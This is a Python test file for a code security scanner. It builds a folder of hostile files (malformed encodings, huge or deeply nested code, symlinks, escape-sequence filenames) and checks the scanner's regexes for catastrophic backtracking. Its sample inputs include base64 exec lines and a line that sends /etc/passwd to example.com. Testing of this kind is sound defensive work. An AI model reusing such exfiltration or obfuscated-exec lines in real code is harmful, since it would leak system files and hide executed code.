    cmd = [str(exe)] if exe.exists() else [sys.executable, "-m", "datasec_scan.cli"]
    env = {**os.environ, "DATASEC_SCAN_CACHE_DIR": str(cwd / ".cache-not-scanned")}
    return subprocess.run(cmd + list(args), cwd=cwd, capture_output=True, timeout=300, env=env)


def build_hostile_tree(root: Path) -> dict[str, str | tuple[str, ...]]:
    """Every hostile item in one folder; returns {display path: notification kind expected}."""
    root.mkdir(parents=True, exist_ok=True)
    expected = {}
    (root / "annotated.py").write_text(f"(x): int = 1\nexec(base64.b64decode('{B64}'))\n")
    expected["annotated.py"] = "parse-error"
    (root / "py2.py").write_text("print 'hello'\nexec base64.b64decode('eA==')\n")
    expected["py2.py"] = "parse-error"
    (root / "bad_utf8.py").write_bytes(b"x = '\xff'\n")
    expected["bad_utf8.py"] = "encoding"
    (root / "cookie.py").write_bytes(b"# coding: no-such-codec\nx = 1\n")
    expected["cookie.py"] = "encoding"
    (root / "utf16.py").write_bytes(codecs.BOM_UTF16_LE + "x = 1\n".encode("utf-16-le"))
    (root / "nul.py").write_bytes(b"x = 1\x00\ny = 2\n")
    expected["nul.py"] = "nul-bytes"
    (root / "mixed.py").write_bytes(b"x = 1\r\ny = 2\rz = 3\n\x0c\n")
    (root / "compiled.py").write_bytes(importlib.util.MAGIC_NUMBER + b"\x00" * 12 + bytes(range(256)) * 4)
    expected["compiled.py"] = "binary"
    (root / "elf.py").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8)
    expected["elf.py"] = "binary"
    with open(root / "huge.py", "wb") as handle:
        handle.truncate(50 * 1024 * 1024)
    expected["huge.py"] = "too-large"
    head = "import base64\nexec(base64.b64decode(x))\n"  # something Python rules want, so a parse is due
    (root / "b64line.py").write_text(head + "x = '" + "QUJD" * 30_000 + "'\n")  # over max-line-chars (as set below)
    expected["b64line.py"] = "too-large"
    (root / "parens.py").write_text(head + "x = " + "(" * 100_000 + ")" * 100_000 + "\n")
    expected["parens.py"] = "too-deep"
    (root / "chain.py").write_text(head + "x = " + "+".join(["1"] * 100_000) + "\n")
    expected["chain.py"] = ("too-deep", "too-large")
    (root / "nots.py").write_text(head + "x = " + "not " * 100_000 + "1\n")
    expected["nots.py"] = ("too-deep", "too-large")
    (root / "tiny.py").write_text(head + "x=1\n" * 40_000)  # over max-parse-tokens (as set below)
    expected["tiny.py"] = "too-large"
    os.mkfifo(root / "fifo.py")
    (root / "null.py").symlink_to("/dev/null")
    expected["null.py"] = "symlink"
    (root / "loop").symlink_to(root)
    expected["loop"] = "symlink"
    (root / "outside.py").symlink_to("/etc/hostname")
    expected["outside.py"] = "symlink"
    with open(os.path.join(os.fsencode(root), b"bad_name_\xff.py"), "wb") as handle:
        handle.write(b"x = 1\n")
    (root / "esc\x1b[2J.py").write_text("# \x1b]8;;https://example.com\x07hi\x1b]8;;\x07 \u202e\nx = 1\n")
    return expected


def test_scan_of_everything_at_once(tmp_path: Path) -> None:
    root = tmp_path / "hostile"
    expected = build_hostile_tree(root)
    expected["fifo.py"] = "not-a-file"
    # Lower line and token limits than the defaults keep this test quick; the defaults are exercised above.
    (tmp_path / "limits.toml").write_text("[limits]\nmax-line-chars = 100000\nmax-parse-tokens = 100000\n")
    done = cli("scan", "hostile", "--format", "json", "--no-cache", "--config", "limits.toml", "-j", "2", cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr.decode(errors="replace")
    report = json.loads(done.stdout)
    got = notes_by_path(report_notes(report))
    for path, kind in expected.items():
        wanted = {kind} if isinstance(kind, str) else set(kind)
        assert wanted & got.get(f"hostile/{path}", set()), (path, got.get(f"hostile/{path}"))
    assert not [n for n in report["notifications"] if n["kind"] in ("internal-error", "worker-crashed")]
    text = cli("scan", "hostile/esc\x1b[2J.py", "hostile/annotated.py", "--no-cache", "--isolated", cwd=tmp_path)
    assert text.returncode in (0, 1)
    assert b"\x1b" not in text.stdout and "\u202e".encode() not in text.stdout


def report_notes(report: dict):
    from datasec_scan.model import Notification

    return [Notification(n["path"], n["kind"], n["message"]) for n in report["notifications"]]


# --- 5. every regex of the engine and the built-in rules under near-matches ---------------------------------------

REGEX_BUDGET_S = 20  # per pattern, generous: a safety net against catastrophic backtracking, not a timing test
REGEX_RUN = 10_000  # anchored calls (match, fullmatch): long runs expose backtracking that grows with length
SCAN_RUN = 1_000  # unanchored calls (finditer) restart at every offset: exponential blow-up shows within ~30 chars
# fnmatch.translate output (`(?s:...)\Z`, host and path globs): whole-string matchers, used with .match only;
# scanning text with them is quadratic by construction, so they get the anchored calls only.
_WHOLE_STRING = re.compile(r"\(\?s:.*\)\\Z$")


def collect_patterns() -> list[tuple[str, re.Pattern]]:
    """Every compiled regex reachable from datasec_scan.* and datasec_rules.* modules (globals, classes, containers)."""
    import dataclasses
    import pkgutil

    import datasec_rules
    import datasec_scan

    found: dict[tuple, tuple[str, re.Pattern]] = {}
    seen: set[int] = set()

    def visit(value, where: str, depth: int) -> None:
        if id(value) in seen or depth > 5:
            return
        seen.add(id(value))
        if isinstance(value, re.Pattern):
            found.setdefault((value.pattern, value.flags), (where, value))
        elif isinstance(getattr(type(value), "compiled", None), functools.cached_property):  # a lazily compiled regex
            visit(value.compiled, f"{where}.compiled", depth + 1)
        elif isinstance(value, dict):
            for k, v in list(value.items()):
                visit(k, f"{where}[key]", depth + 1)
                visit(v, f"{where}[{k!r}]"[:120], depth + 1)
        elif isinstance(value, (list, tuple, set, frozenset)):
            for i, v in enumerate(list(value)):
                visit(v, f"{where}[{i}]", depth + 1)
        elif dataclasses.is_dataclass(value) and not isinstance(value, type):
            for f in dataclasses.fields(value):
                visit(getattr(value, f.name, None), f"{where}.{f.name}", depth + 1)
        elif isinstance(value, type) and value.__module__.startswith(("datasec_scan", "datasec_rules")):
            for k, v in list(vars(value).items()):
                visit(v, f"{where}.{k}", depth + 1)

    from datasec_rules._credentials import token_formats

    for fmt in token_formats():  # compiled on first use; compile them all so the survey sees them
        visit(fmt.pattern, f"token format {fmt.id}", 0)
    for package in (datasec_scan, datasec_rules):
        for info in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
            if info.name.endswith(".cli") or ".__main__" in info.name:
                continue
            module = importlib.import_module(info.name)
            for name, value in list(vars(module).items()):
                visit(value, f"{info.name}.{name}", 0)
    for cached in list(getattr(re, "_cache", {}).values()):  # patterns compiled lazily (catalogs, re.search(str))
        if isinstance(cached, re.Pattern):
            found.setdefault((cached.pattern, cached.flags), ("re._cache", cached))
    return sorted(found.values(), key=lambda item: (item[0], str(item[1].pattern)))


def adversarial_inputs(pattern: re.Pattern, n: int = REGEX_RUN) -> list[str]:
    source = pattern.pattern if isinstance(pattern.pattern, str) else pattern.pattern.decode("latin-1")
    literals = [re.sub(r"\\(.)", r"\1", lit) for lit in re.findall(r"(?:\\[^\w\s]|[A-Za-z0-9_:/@.\-=#'\"]){2,}", source)]
    literals = sorted(set(literals), key=lambda lit: (-len(lit), lit))[:4]
    inputs = ["a" * n, "=" * n, " " * n, "A" * n, "0" * n, "a=" * (n // 2), "aA0_-/." * (n // 7), "\\" * n,
              "/" * n, ".-" * (n // 2), "'\"" * (n // 2), "\n" * n, "\x00" * n,
              "a" * n + "!", "A" * n + "!", "0" * n + "!", " " * n + "!", "aA0" * (n // 3) + "\x00"]  # run, then a miss
    for lit in literals:
        inputs += [lit * (n // len(lit)), (lit + " ") * (n // (len(lit) + 1)), lit + "a" * n, lit + "=" * n,
                   lit[:-1] * (n // max(1, len(lit) - 1))]
    return inputs


def _regex_child(start: int) -> None:  # pragma: no cover - runs in a subprocess
    """Run every pattern from `start` over its adversarial inputs, saying on stdout when each starts and ends."""
    from datasec_scan.engine import scan_file as scan_one
    from datasec_scan.plugins import discover as discover_rules

    selftest = bool(os.environ.get("DATASEC_REGEX_SELFTEST"))
    selftest or scan_one("warm.py", b"import base64, socket, os\nexec(base64.b64decode('eA=='))\nKEY='AKIAIOSFODNN7EXAMPLE'\n"
             b"requests.post('https://example.com', data=open('/etc/passwd').read())\n", discover_rules(), Config())
    patterns = collect_patterns()
    if selftest:  # the harness's own check: a known catastrophic pattern among three ordinary ones
        patterns = [("selftest", re.compile(r"^(a+)+$"))] + patterns[:3]
    print(f"TOTAL {len(patterns)}", flush=True)
    for i, (where, pattern) in enumerate(patterns[start:], start):
        print(f"START {i} {where} {pattern.pattern!r}"[:400], flush=True)
        as_subject = (lambda t: t.encode("latin-1", "replace")) if isinstance(pattern.pattern, bytes) else str
        for text in adversarial_inputs(pattern, REGEX_RUN):
            pattern.match(as_subject(text))
            pattern.fullmatch(as_subject(text))
        source = pattern.pattern if isinstance(pattern.pattern, str) else pattern.pattern.decode("latin-1")
        if _WHOLE_STRING.match(source):
            print(f"DONE {i}", flush=True)
            continue
        for text in adversarial_inputs(pattern, SCAN_RUN):
            for _ in pattern.finditer(as_subject(text)):
                pass
        print(f"DONE {i}", flush=True)
    print("ALL DONE", flush=True)


def regex_survey(budget: float, env: dict[str, str] | None = None) -> tuple[int, list[str]]:
    """Run the survey in subprocesses; returns (patterns, the ones that ran over `budget` seconds)."""
    import queue
    import threading

    here = Path(__file__).resolve().parent
    slow: list[str] = []
    start, total = 0, 0
    while True:
        code = f"import sys; sys.path.insert(0, {str(here)!r}); import test_hostile as t; t._regex_child({start})"
        child = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                 text=True, env={**os.environ, **(env or {})})
        lines: queue.Queue = queue.Queue()
        threading.Thread(target=lambda: [lines.put(line) for line in child.stdout] + [lines.put(None)],
                         daemon=True).start()  # a thread reads, so a line is never stuck in a buffer
        current, finished, timeout = None, False, max(60.0, budget * 3)  # the first wait covers start-up
        while True:
            try:
                line = lines.get(timeout=timeout)
            except queue.Empty:
                child.kill()
                child.wait()
                slow.append(current or "(start-up)")
                break
            if line is None:
                child.wait()
                assert finished, f"regex survey child failed ({child.returncode})"
                break
            if line.startswith("TOTAL"):
                total = int(line.split()[1])
            elif line.startswith("START"):
                current, timeout = line.strip(), budget
            elif line.startswith("DONE"):
                start, current = int(line.split()[1]) + 1, None
            elif line.startswith("ALL DONE"):
                finished = True
        if finished or current is None:
            break
        start += 1  # skip the pattern that hung and survey the rest
    return total, slow


def test_every_regex_survives_near_matches() -> None:
    total, slow = regex_survey(REGEX_BUDGET_S)
    assert total > 20, "regex survey found suspiciously few patterns"
    assert not slow, "regexes over the time budget on near-match input (catastrophic backtracking?):\n" + "\n".join(slow)


def test_regex_survey_catches_catastrophic_backtracking() -> None:
    total, slow = regex_survey(2, {"DATASEC_REGEX_SELFTEST": "1"})
    assert total == 4 and len(slow) == 1 and "selftest" in slow[0]
